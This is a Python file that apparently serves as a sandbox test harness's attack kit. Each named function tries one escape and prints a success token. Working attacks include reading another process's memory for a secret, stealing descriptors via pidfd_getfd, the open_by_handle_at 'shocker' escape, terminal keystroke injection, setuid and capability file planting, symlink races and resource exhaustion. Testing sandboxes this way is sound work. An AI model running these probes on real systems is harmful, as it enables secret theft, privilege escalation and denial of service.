"""What the attacks bring along: runs inside of the sandbox, with the standard library only.

``python3 kit.py NAME [ARGUMENT...]``. An attack that only its own word can prove prints the variable ``SAY``.
"""

import ctypes
import errno
import fcntl
import json
import mmap
import os
import select
import shutil
import signal
import socket
import struct
import sys
import termios
import time

LIBC = ctypes.CDLL(None, use_errno=True)
CALLS = json.loads(os.environ.get("CALLS", "{}"))
HOST = os.environ.get("H", "")
NEWUSER = 0x10000000


def won():
    print(os.environ["SAY"], flush=True)


def call(name, *arguments):
    """A system call by name: its result, or minus the error."""
    words = [ctypes.c_long(item) if isinstance(item, int) else item for item in arguments]
    LIBC.syscall.restype = ctypes.c_long
    got = LIBC.syscall(ctypes.c_long(CALLS[name]), *words)
    return got if got >= 0 else -ctypes.get_errno()


def stack(pid):
    with open(f"/proc/{pid}/maps") as file:
        for line in file:
            if "[stack]" in line:
                return [int(word, 16) for word in line.split()[0].split("-")]
    raise SystemExit("no stack")


def secret_in(data):
    place = data.find(b"VICTIM_SECRET=")
    print(data[place : place + 80].split(b"\0")[0].decode("latin-1") if place >= 0 else "nothing")


# --- writes


def mapped(path):
    with open(path, "r+b") as file:
        memory = mmap.mmap(file.fileno(), 0)
        memory[0:3] = b"BAD"


def xattr(path):
    os.setxattr(path, "user.operator", b"bad")


def capability(path):
    shutil.copy("/bin/true", path)
    os.setxattr(path, "security.capability", struct.pack("<5I", 0x02000001, 0xFFFFFFFF, 0, 0, 0))


def setuid_open(path):
    os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o4755))


def setuid_fchmodat2(path):
    open(path, "w").close()
    call("fchmodat2", -100, path.encode(), 0o4755, 0)


def device(path):
    os.mknod(path, 0o20666, os.makedev(1, 3))


def descriptors():
    """Anything that was left open for us."""
    own = {os.open("/dev/null", os.O_RDONLY)}
    for name in sorted(os.listdir("/proc/self/fd")):
        number = int(name)
        if number > 2 and number not in own:
            try:
                os.fstat(number)
            except OSError:
                continue  # the one with which the directory was listed
            print(number, os.readlink(f"/proc/self/fd/{number}"))
            won()


def race(inside, outside):
    """Swap a directory and a link to the outside while another process writes through the name."""
    os.mkdir("flip")
    os.symlink(outside, "flop")
    for _ in range(300):
        for first, second in (("flip", "spare"), ("flop", "flip"), ("spare", "flop")):
            os.rename(first, second)
        try:
            with open(f"flip/{inside}", "w") as file:
                file.write("BAD")
        except OSError:
            continue


def usurp(target, *folders):
    """Put a link wherever the platform makes a file for the next command."""
    end = time.monotonic() + 4
    while time.monotonic() < end:
        for folder in folders:
            try:
                for name in os.listdir(folder):
                    path = f"{folder}/{name}"
                    if not os.path.islink(path):
                        os.unlink(path)
                        os.symlink(target, path)
            except OSError:
                continue


def obstruct(kind, *folders):
    """Take the names that the platform will want to use."""
    for folder in folders:
        for number in range(3000):
            for name in (f"{number}", f"{number}.command"):
                try:
                    os.mkdir(f"{folder}/{name}") if kind == "folder" else os.mkfifo(f"{folder}/{name}")
                except OSError:
                    continue


# --- reads


def memory(pid):
    low, high = stack(pid)
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as file:
        file.seek(low)
        secret_in(file.read(high - low))


def readv(pid):
    class Vector(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))

    low, high = stack(pid)
    buffer = ctypes.create_string_buffer(high - low)
    local = Vector(ctypes.addressof(buffer), high - low)
    remote = Vector(low, high - low)
    LIBC.process_vm_readv(int(pid), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    secret_in(buffer.raw)


def stolen_descriptor(pid):
    pidfd = os.pidfd_open(int(pid))
    fd = call("pidfd_getfd", pidfd, 3, 0)
    print(os.pread(fd, 200, 0).decode() if fd >= 0 else os.strerror(-fd))


def keyring(name):
    key = call("keyctl", 10, -4, b"user", name.encode(), 0)
    buffer = ctypes.create_string_buffer(200)
    size = call("keyctl", 11, key, buffer, 200) if key > 0 else -1
    print(buffer.raw[: max(size, 0)].decode())


def shared_memory(key):
    LIBC.shmat.restype = ctypes.c_void_p
    address = LIBC.shmat(LIBC.shmget(int(key), 0, 0), None, 0o10000)
    if address not in (None, ctypes.c_void_p(-1).value):
        print(ctypes.string_at(address, 100).rstrip(b"\0").decode())


def enter(pid):
    fd = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
    if call("setns", fd, 0) == 0:
        with open(f"{HOST}/secret") as file:
            print(file.read())


def handle(kind, data):
    """Open a file by its number, past all directories (the "shocker")."""
    raw = bytes.fromhex(data)
    buffer = struct.pack("<Ii", len(raw), int(kind)) + raw
    place = os.open(".", os.O_RDONLY)
    fd = call("open_by_handle_at", place, buffer, 0)
    print(os.read(fd, 200).decode() if fd >= 0 else os.strerror(-fd))


def kernel_log():
    buffer = ctypes.create_string_buffer(1 << 16)
    if LIBC.klogctl(3, buffer, 1 << 16) > 0:
        won()


def readable(*paths):
    for path in paths:
        try:
            with open(path, "rb", buffering=0) as file:
                if file.read(1):
                    print(path)
                    won()
        except OSError as error:
            print(path, error.strerror)


# --- processes


def trace(pid):
    """Attach, and take it along when we end."""
    if LIBC.ptrace(0x4206, int(pid), None, ctypes.c_void_p(0x00100000)) != 0:
        raise SystemExit("not attached")


def daemon(marker, *, ignore=False):
    if ignore:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open("/dev/null", os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.execvp("sleep", ["sleep", marker])
        os._exit(0)
    os.wait()


def stubborn(marker):
    daemon(marker, ignore=True)
    time.sleep(30)


def relay(marker, path):
    """A process that is never there when one looks: each lives for a moment and leaves a child."""
    if os.fork():
        return
    os.setsid()
    null = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    end = time.monotonic() + 4
    beat = os.open(path, os.O_CREAT | os.O_WRONLY | os.O_APPEND)
    while time.monotonic() < end:
        if os.fork():
            os._exit(0)
        os.write(beat, b".")
        time.sleep(0.001)


def terminal(path):
    with open(path, "w") as file:
        file.write(os.environ["ID"] + "\n")


def typed(path):
    fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
    for letter in os.environ["ID"] + "\n":
        fcntl.ioctl(fd, termios.TIOCSTI, letter.encode())


# --- kernel


def opens(*paths):
    """Open for writing, and write nothing."""
    for path in paths:
        try:
            os.close(os.open(path, os.O_WRONLY))
        except OSError as error:
            print(path, error.strerror)
        else:
            print(path)
            won()


def mount():
    os.makedirs("m", exist_ok=True)
    if LIBC.mount(b"none", b"m", b"tmpfs", 0, None) == 0:
        won()
        LIBC.umount(b"m")


def chroot():
    os.chroot(".")
    won()


def user_namespace():
    if call("unshare", NEWUSER) == 0:
        won()


def _child(pid):
    if pid == 0:
        os._exit(0)
    if pid > 0:
        os.waitpid(pid, 0)
        won()


def clone():
    _child(call("clone", NEWUSER | 17, 0, 0, 0, 0))


def clone3():
    _child(call("clone3", struct.pack("<8Q", NEWUSER, 0, 0, 0, 17, 0, 0, 0), 64))


def io_uring():
    if call("io_uring_setup", 8, ctypes.create_string_buffer(256)) >= 0:
        won()


def perf():
    attributes = struct.pack("<IIQQQQQ", 1, 128, 0, 0, 0, 0, 0b1100000) + bytes(80)
    if call("perf_event_open", attributes, 0, -1, -1, 0) >= 0:
        won()


def bpf():
    if call("bpf", 0, struct.pack("<5I", 2, 4, 8, 1, 0) + bytes(100), 120) >= 0:
        won()


def userfault():
    if call("userfaultfd", 1) >= 0:
        won()


def new_key():
    if call("add_key", b"user", b"operator-escape", b"x", 1, -2) >= 0:
        won()


def module():
    if call("init_module", 0, 0, b"") in (-errno.ENOEXEC, -errno.EFAULT, -errno.EINVAL):
        won()


def reboot():
    """With wrong magic numbers: the kernel looks at the right first, and only then at the numbers."""
    if call("reboot", 0, 0, 0, 0) == -errno.EINVAL:
        won()


def host_name():
    name = os.uname().nodename.encode()
    if call("sethostname", name, len(name)) == 0:
        won()


def ports():
    if call("iopl", 3) == 0:
        won()


def mount_api():
    if call("fsopen", b"tmpfs", 0) >= 0:
        won()


def compare():
    if call("kcmp", os.getpid(), int(os.environ["VICTIM"]), 0, 0, 0) >= 0:
        won()


def family(number, kind, protocol):
    socket.socket(int(number), int(kind), int(protocol)).close()
    won()


# --- network


def tcp(host, port):
    for address in host.split(","):
        try:
            with socket.create_connection((address, int(port)), 0.5) as there:
                there.sendall(os.environ["ID"].encode() + b"\n")
                print(there.recv(100).decode())
        except OSError as error:
            print(address, error)


def udp(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
        there.sendto(os.environ["ID"].encode(), (host, int(port)))


def fast_open(port):
    with socket.socket() as there:
        there.sendto(os.environ["ID"].encode() + b"\n", 0x20000000, ("127.0.0.1", int(port)))
        print(there.recv(100).decode())


def multipath(port):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as there:
        there.settimeout(1)
        there.connect(("127.0.0.1", int(port)))
        there.sendall(os.environ["ID"].encode() + b"\n")
        print(there.recv(100).decode())


def unix(path):
    name = "\0" + path[1:] if path.startswith("@") else path
    with socket.socket(socket.AF_UNIX) as there:
        there.settimeout(1)
        there.connect(name)
        there.sendall(os.environ["ID"].encode() + b"\n")
        print(there.recv(100).decode())


def datagram(path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as there:
        there.sendto(os.environ["ID"].encode(), path)


def proxied(line, *headers):
    """Ask the proxy, in these words; what follows a CONNECT goes through it."""
    host, port = os.environ["http_proxy"].split("//")[1].strip("/").split(":")
    with socket.create_connection((host, int(port)), 2) as there:
        there.settimeout(2)
        there.sendall("\r\n".join([line, *headers, "", ""]).encode())
        answer = there.recv(4000)
        print(answer.decode("utf-8", "replace"))
        if b" 200 " in answer:
            there.sendall(os.environ["ID"].encode() + b"\n")
        print(there.recv(4000).decode("utf-8", "replace"))


def serve(port):
    with socket.create_server(("127.0.0.1", int(port))) as server:
        server.settimeout(0.7)
        server.accept()


# --- resources


def memories(count, size):
    """So many processes with so many MiB each, all at the same time."""
    signal.alarm(4)
    ready, gate = os.pipe(), os.pipe()
    for _ in range(int(count)):
        if os.fork() == 0:
            kept = bytearray(int(size) << 20)
            kept[:: mmap.PAGESIZE] = b"x" * len(kept[:: mmap.PAGESIZE])
            os.write(ready[1], b"x")
            os.close(gate[1])
            os.read(gate[0], 1)
            os._exit(0)
    got = 0
    while got < int(count) and os.waitpid(-1, os.WNOHANG) == (0, 0):
        if select.select([ready[0]], [], [], 0.05)[0]:
            got += len(os.read(ready[0], 64))
    if got == int(count):
        won()
    os.close(gate[1])


def one_memory(size):
    kept = bytearray(int(size) << 20)
    kept[:: mmap.PAGESIZE] = b"x" * len(kept[:: mmap.PAGESIZE])
    won()


def file_memory(size):
    for number in range(int(size) // 10):
        os.write(os.memfd_create(f"kept-{number}"), bytes(10 << 20))
    won()


def many(count, marker):
    """So many sleeping processes at once."""
    started = []
    for _ in range(int(count)):
        pid = os.fork()
        if pid == 0:
            os.execvp("sleep", ["sleep", marker])
        started.append(pid)
    time.sleep(0.8)


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
